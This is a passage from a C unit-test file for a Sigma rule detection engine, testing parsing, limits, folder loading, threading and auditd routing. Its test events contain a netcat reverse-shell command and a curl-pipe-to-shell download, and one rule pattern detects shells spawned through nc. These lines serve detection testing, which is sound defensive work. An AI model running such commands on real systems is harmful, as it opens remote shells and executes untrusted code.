	expect_bad(RULE("    sel:\n        \"Image|x\\ny\": v\n    condition: sel\n"), YM_E_PARSE,
		   8, "unknown modifier 'x\\x0ay'");
}

static void test_unsupported(void **state)
{
	(void)state;
	expect_bad(RULE("    sel:\n        Image: x\n    condition: sel | count() > 5\n"),
		   YM_E_UNSUPPORTED, 9, "aggregation");
	expect_bad(RULE("    sel:\n        Image: x\n    timeframe: 5m\n    condition: sel\n"),
		   YM_E_UNSUPPORTED, 9, "timeframe");
	expect_bad(RULE("    a:\n        A: x\n    b:\n        B: x\n"
			"    condition: a near b\n"),
		   YM_E_UNSUPPORTED, 11, "'near'");
	expect_bad("title: g\naction: global\nlogsource:\n    product: linux\n", YM_E_UNSUPPORTED,
		   2, "rule collections");
	expect_bad("title: x\nlogsource: {product: linux}\ndetection:\n  s: &a x\n  t: *a\n"
		   "  condition: s\n",
		   YM_E_UNSUPPORTED, 5, "aliases");
	/* expand without a configured placeholder names it */
	expect_bad(RULE("    sel:\n        User|expand: '%Admins%'\n    condition: sel\n"),
		   YM_E_UNSUPPORTED, 8, "placeholder '%Admins%' has no configured values");
	/* an error elsewhere in the rule wins over an unsupported feature */
	expect_bad(RULE("    sel:\n        User|expand: '%x%'\n    condition: sel and nope\n"),
		   YM_E_PARSE, 9, "unknown search identifier 'nope'");
}

static void test_limits(void **state)
{
	struct {
		size_t n;
	} b = {0};
	char *y;
	size_t cap = 2u << 20;
	(void)state;

	y = malloc(cap);
	assert_non_null(y);
	/* 65537 values for one field (flow style, to stay under 1 MiB) */
	b.n = (size_t)snprintf(y, cap, RULE("    sel:\n        Image: ["));
	for (int i = 0; i < 65537; i++)
		b.n += (size_t)snprintf(y + b.n, cap - b.n, "%x,", i);
	snprintf(y + b.n - 1, cap - b.n + 1, "]\n    condition: sel\n");
	expect_bad(y, YM_E_PARSE, 8, "more than 65536 values");
	/* ... and 65536 are fine */
	b.n = (size_t)snprintf(y, cap, RULE("    sel:\n        Image: ["));
	for (int i = 0; i < 65536; i++)
		b.n += (size_t)snprintf(y + b.n, cap - b.n, "%x,", i);
	snprintf(y + b.n - 1, cap - b.n + 1, "]\n    condition: sel\n");
	{
		struct ruleset *rs = load_ok(y);
		assert_int_equal(m(rs, "Image", "fffe", NULL), 1);
		assert_int_equal(m(rs, "Image", "10000", NULL), 0);
		ruleset_free(rs);
	}
	/* condition nested 65 deep */
	b.n = (size_t)snprintf(y, cap, RULE("    sel:\n        Image: x\n    condition: "));
	for (int i = 0; i < 65; i++)
		b.n += (size_t)snprintf(y + b.n, cap - b.n, "(");
	b.n += (size_t)snprintf(y + b.n, cap - b.n, "sel");
	for (int i = 0; i < 65; i++)
		b.n += (size_t)snprintf(y + b.n, cap - b.n, ")");
	snprintf(y + b.n, cap - b.n, "\n");
	expect_bad(y, YM_E_PARSE, 9, "deeper than 64");
	b.n = (size_t)snprintf(y, cap, RULE("    sel:\n        Image: x\n    condition: "));
	for (int i = 0; i < 100; i++)
		b.n += (size_t)snprintf(y + b.n, cap - b.n, "not ");
	snprintf(y + b.n, cap - b.n, "sel\n");
	expect_bad(y, YM_E_PARSE, 9, "deeper than 64");
	/* YAML nested 100 deep */
	b.n = (size_t)snprintf(y, cap, "title: x\nlogsource: {}\ndetection: ");
	for (int i = 0; i < 100; i++)
		b.n += (size_t)snprintf(y + b.n, cap - b.n, "[");
	snprintf(y + b.n, cap - b.n, "\n");
	expect_bad(y, YM_E_PARSE, 3, "nested deeper than 64");
	/* a file over 1 MiB */
	memset(y, '#', (1u << 20) + 1);
	y[(1u << 20) + 1] = 0;
	expect_bad(y, YM_E_PARSE, 0, "larger than 1 MiB");
	free(y);
}

static void write_file(const char *dir, const char *name, const char *text)
{
	char p[512];
	snprintf(p, sizeof(p), "%s/%s", dir, name);
	assert_int_equal(util_write_file(p, text, strlen(text), 0644), 0);
}

static void test_load_folder(void **state)
{
	char dir[] = "/tmp/ym_detect_XXXXXX", sub[600];
	const char *paths[1];
	struct ruleset *rs = NULL;
	struct detect_load_stats st;
	struct diagcap dc = {0};
	struct ids ids = {.stop_after = -1};
	const char *rule_b = "title: b\nid: b\nlogsource: {product: linux}\n"
			     "detection:\n  s: {Image: /bin/x}\n  condition: s\n";
	(void)state;

	assert_non_null(mkdtemp(dir));
	snprintf(sub, sizeof(sub), "%s/sub", dir);
	assert_int_equal(util_mkdirs(sub, 0755), 0);
	write_file(dir, "b.yml", rule_b);
	write_file(dir, "a.yaml",
		   "title: a\nid: a\nlogsource: {product: linux}\n"
		   "detection:\n  s: {Image: /bin/x}\n  condition: s\n");
	write_file(dir, "c.txt", "not a rule");
	write_file(dir, ".hidden.yml", "not: [a rule");
	write_file(sub, "d.yml",
		   "title: d\nid: d\nlogsource: {product: linux}\n"
		   "detection:\n  s: {Image: /bin/x}\n  condition: s\n");
	write_file(sub, "e.yml", "title: e\nlogsource: {product: linux}\ndetection: {s: x}\n");
	paths[0] = dir;
	assert_int_equal(ruleset_load(paths, 1, &rs, &st, cap_diag, &dc), 0);
	assert_int_equal(st.loaded, 3);
	assert_int_equal(st.errors, 1);
	assert_int_equal(dc.n, 1);
	assert_non_null(strstr(dc.first.file, "/sub/e.yml"));
	assert_string_equal(route(rs, EVCAT_PROCESS_CREATION, "linux", &ids), "a,b,d");
	ruleset_free(rs);

	/* a single file given directly */
	snprintf(sub, sizeof(sub), "%s/b.yml", dir);
	paths[0] = sub;
	rs = NULL;
	assert_int_equal(ruleset_load(paths, 1, &rs, &st, NULL, NULL), 0);
	assert_int_equal(ruleset_count(rs), 1);
	assert_string_equal(ruleset_rule(rs, 0)->file, sub);
	ruleset_free(rs);

	/* a path that does not exist */
	paths[0] = "/nonexistent/ym_rules";
	rs = NULL;
	assert_int_equal(ruleset_load(paths, 1, &rs, &st, NULL, NULL), YM_E_IO);
	assert_null(rs);

	snprintf(sub, sizeof(sub), "rm -rf '%s'", dir);
	assert_int_equal(system(sub), 0);
}

struct thr {
	const struct ruleset *rs;
	int hits;
};

static void *thr_main(void *arg)
{
	struct thr *t = arg;
	struct event ev;

	event_init(&ev);
	ev.category = EVCAT_PROCESS_CREATION;
	ev.product = "linux";
	for (int i = 0; i < 2000; i++) {
		event_set_str(&ev, "CommandLine",
			      (i & 1) ? "nc -e /bin/sh 10.0.0.1 4444" : "ls -la");
		event_set_str(&ev, "Image", (i & 1) ? "/usr/bin/nc" : "/usr/bin/ls");
		t->hits += ruleset_match(t->rs, &ev, NULL, NULL);
	}
	return NULL;
}

static void test_threads(void **state)
{
	struct ruleset *rs = load_ok(RULE("    re:\n        CommandLine|re: ' -e /bin/(ba)?sh'\n"
					  "    glob:\n        Image|endswith: '/nc'\n"
					  "    condition: re and glob\n"));
	pthread_t th[4];
	struct thr t[4];
	(void)state;

	for (int i = 0; i < 4; i++) {
		t[i].rs = rs;
		t[i].hits = 0;
		assert_int_equal(pthread_create(&th[i], NULL, thr_main, &t[i]), 0);
	}
	for (int i = 0; i < 4; i++) {
		assert_int_equal(pthread_join(th[i], NULL), 0);
		assert_int_equal(t[i].hits, 1000);
	}
	assert_int_equal(ruleset_match_errors(rs), 0);
	ruleset_free(rs);
}

/* Loads a whole SigmaHQ checkout (test_detect --sigmahq DIR): nothing may
 * crash, the large majority must load, and every loaded rule is run against
 * an event of each category. Exit 77 (skip) when DIR is missing. */
static int sigmahq(const char *dir)
{
	const char *paths[1] = {dir};
	struct ruleset *rs = NULL;
	struct detect_load_stats st;
	struct stat sb;
	struct event ev;
	uint64_t t0;
	unsigned total;
	int hits = 0;

	if (stat(dir, &sb) != 0 || !S_ISDIR(sb.st_mode)) {
		printf("skip: no SigmaHQ rules at %s\n", dir);
		return 77;
	}
	t0 = util_mono_ns();
	if (ruleset_load(paths, 1, &rs, &st, NULL, NULL) != 0) {
		printf("FAIL: ruleset_load(%s)\n", dir);
		return 1;
	}
	total = st.loaded + st.unsupported + st.errors;
	printf("sigmahq: %u files/documents: %u loaded, %u unsupported, %u errors in %.2f s\n",
	       total, st.loaded, st.unsupported, st.errors, (double)(util_mono_ns() - t0) / 1e9);
	event_init(&ev);
	ev.product = "linux";
	event_set_str(&ev, "Image", "/usr/bin/bash");
	event_set_str(&ev, "CommandLine", "bash -c curl -s http://127.0.0.1:8000/x.sh | sh");
	event_set_str(&ev, "ParentImage", "/usr/bin/python3");
	event_set_str(&ev, "User", "root");
	for (unsigned c = 0; c < EVCAT_MAX_; c++) {
		ev.category = (uint16_t)c;
		hits += ruleset_match(rs, &ev, NULL, NULL);
		ev.product = c & 1 ? "windows" : "linux";
		hits += ruleset_match(rs, &ev, NULL, NULL);
	}
	printf("sigmahq: %d matches over %u test events, %lu regex limit hits\n", hits,
	       2 * EVCAT_MAX_, ruleset_match_errors(rs));
	ruleset_free(rs);
	/* the large majority loads, and errors stay rare */
	if (total == 0 || st.loaded * 10 < total * 9 || st.errors * 100 > total) {
		printf("FAIL: too few rules loaded\n");
		return 1;
	}
	return 0;
}

/* A raw auditd record comes off the wire as category EVCAT_AUDITD with no
 * service set: it routes to the rules of service auditd, and to no rule of
 * a category. */
static void test_auditd_wire_category(void **state)
{
	const char *yaml = "title: a\nlogsource: {product: linux, service: auditd}\n"
			   "detection: {sel: {type: EXECVE, a0: nc}, condition: sel}\n"
			   "---\n"
			   "title: b\nlogsource: {product: linux, category: process_creation}\n"
			   "detection: {sel: {a0: nc}, condition: sel}\n";
	struct ruleset *rs = NULL;
	struct detect_load_stats st;
	struct event ev;
	(void)state;

	assert_int_equal(ruleset_load_mem(yaml, strlen(yaml), "a.yml", &rs, &st, NULL, NULL), 0);
	assert_int_equal(st.loaded, 2);
	event_init(&ev);
	ev.product = "linux";
	ev.category = EVCAT_AUDITD;
	assert_int_equal(event_set_str(&ev, "type", "EXECVE"), 0);
	assert_int_equal(event_set_str(&ev, "a0", "nc"), 0);
	assert_int_equal(ruleset_match(rs, &ev, NULL, NULL), 1);
	ruleset_free(rs);
}

/* A YAML document that is no Sigma rule at all is skipped and counted, not
 * an error; one with any rule key but broken is still an error. */
static void test_non_rule_documents_skipped(void **state)
{
	const char *yaml = "id: 1\ndescription: test metadata\n"
			   "---\n"
			   "title: broken\n"
			   "---\n"
			   "title: ok\nlogsource: {product: linux, category: process_creation}\n"
			   "detection: {sel: {Image: /bin/x}, condition: sel}\n";
	struct ruleset *rs = NULL;
	struct detect_load_stats st;
	struct diagcap dc = {0};
	(void)state;

	assert_int_equal(ruleset_load_mem(yaml, strlen(yaml), "mix.yml", &rs, &st, cap_diag, &dc),
			 0);
	assert_int_equal(st.loaded, 1);
	assert_int_equal(st.errors, 1);
	assert_int_equal(st.skipped, 1);
	assert_int_equal(dc.n, 1); /* only the broken rule is diagnosed */
	ruleset_free(rs);
}

int main(int argc, char **argv)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_non_rule_documents_skipped),
	    cmocka_unit_test(test_auditd_wire_category),
	    cmocka_unit_test(test_equality_case_insensitive),
	    cmocka_unit_test(test_contains_startswith_endswith),
	    cmocka_unit_test(test_all_modifier),
	    cmocka_unit_test(test_cased),
	    cmocka_unit_test(test_wildcards),
	    cmocka_unit_test(test_escapes),
	    cmocka_unit_test(test_regex),
	    cmocka_unit_test(test_regex_bounded),
	    cmocka_unit_test(test_exists),
	    cmocka_unit_test(test_null_and_empty),
	    cmocka_unit_test(test_lists_and_maps),
	    cmocka_unit_test(test_keywords),
	    cmocka_unit_test(test_condition_forms),
	    cmocka_unit_test(test_precedence),
	    cmocka_unit_test(test_x_of),
	    cmocka_unit_test(test_logsource_routing),
	    cmocka_unit_test(test_rule_info),
	    cmocka_unit_test(test_diagnostics),
	    cmocka_unit_test(test_unsupported),
	    cmocka_unit_test(test_limits),
	    cmocka_unit_test(test_load_folder),
	    cmocka_unit_test(test_threads),
	};
	if (argc == 3 && strcmp(argv[1], "--sigmahq") == 0)
		return sigmahq(argv[2]);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
